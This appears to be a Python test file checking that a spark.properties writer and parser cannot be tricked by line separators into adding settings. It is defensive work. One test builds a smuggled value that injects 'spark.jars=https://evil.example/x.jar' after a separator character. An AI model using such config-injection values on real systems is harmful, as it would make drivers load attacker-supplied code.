"""spark.properties: what the operator writes, the driver reads back exactly, whatever a value holds.

A value that became several settings would let an app author set what the operator sets
(spark.jars, spark.authenticate, the executors' image), so the property is tested over arbitrary
Unicode, and against the separators that Python's ``str.splitlines`` breaks at but Java's reader
does not.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from streamapp_api.properties import PropertiesError, escape, format_properties, parse_properties

pytestmark = pytest.mark.unit

# Every character Python splits lines at, and the rest of the controls and separators.
SEPARATORS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\x00\t\x7f\u200b\u202e\ufeff"
keys = st.text(min_size=1, max_size=40)
values = st.text(max_size=80) | st.text(alphabet=st.sampled_from(SEPARATORS + "=:#!\\ ab"), max_size=40)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(keys, values, max_size=8))
def test_any_settings_read_back_exactly(props):
    assert parse_properties(format_properties(props)) == props


@settings(max_examples=300, deadline=None)
@given(values, st.dictionaries(keys, values, max_size=4))
def test_no_value_adds_or_changes_another_setting(smuggled, others):
    """The operator's own settings survive whatever the author's value holds."""
    operator = {"spark.authenticate": "true", "spark.kubernetes.container.image": "streamapp/runtime:1"}
    written = format_properties({**others, "spark.sql.ansi.enabled": smuggled, **operator})
    read = parse_properties(written)
    assert read["spark.sql.ansi.enabled"] == smuggled
    assert {k: read[k] for k in operator} == operator
    assert set(read) == {*others, "spark.sql.ansi.enabled", *operator}


@pytest.mark.parametrize("separator", list(SEPARATORS))
def test_a_value_with_a_separator_is_one_printable_line(separator):
    value = f"true{separator}spark.jars=https://evil.example/x.jar"
    text = format_properties({"spark.sql.ansi.enabled": value})
    assert text.count("\n") == 1 and text.isascii() and text[:-1].isprintable()
    assert text.splitlines() == [text[:-1]]  # what the previous reader did cannot split it either
    assert parse_properties(text) == {"spark.sql.ansi.enabled": value}


def test_plain_settings_are_written_as_before():
    """Settings without escapes are written byte for byte as the previous writer did: an operator
    upgrade changes no app's ConfigMap, so no driver restarts for it."""
    props = {"spark.master": "k8s://https://${env:KUBERNETES_SERVICE_HOST}:${env:KUBERNETES_SERVICE_PORT}",
             "spark.kubernetes.executor.label.app.kubernetes.io/name": "clicks", "spark.executor.memory": "1g"}
    assert format_properties(props) == "".join(f"{k}={v}\n" for k, v in props.items())


@pytest.mark.parametrize("text, expected", [
    ("# comment\n! also\n\n  a=1\n", {"a": "1"}),
    ("a = 1\nb: 2\nc 3\n", {"a": "1", "b": "2", "c": "3"}),
    ("a=1\\\n   2\n", {"a": "12"}),  # a continuation line, as Java reads it
    ("a=1\\\\\nb=2\n", {"a": "1\\", "b": "2"}),  # an escaped backslash ends the line
    ("a=x\\u00e9\\t\\=y\n", {"a": "x\u00e9\t=y"}),
    ("a\\=b=c\r\nd=e\rf=g", {"a=b": "c", "d": "e", "f": "g"}),
    ("a=\\uD83D\\uDE00\n", {"a": "\U0001F600"}),
])
def test_java_properties_format_is_read_as_java_reads_it(text, expected):
    assert parse_properties(text) == expected


def test_a_malformed_escape_names_the_line():
    with pytest.raises(PropertiesError, match=r"spark.properties:2: malformed \\uXXXX"):
        parse_properties("a=1\nb=\\u12\n")


def test_key_escapes():
    assert escape("a=b:c d#!", key=True) == "a\\=b\\:c\\ d\\#\\!"
    assert escape(" lead", key=False) == "\\ lead"
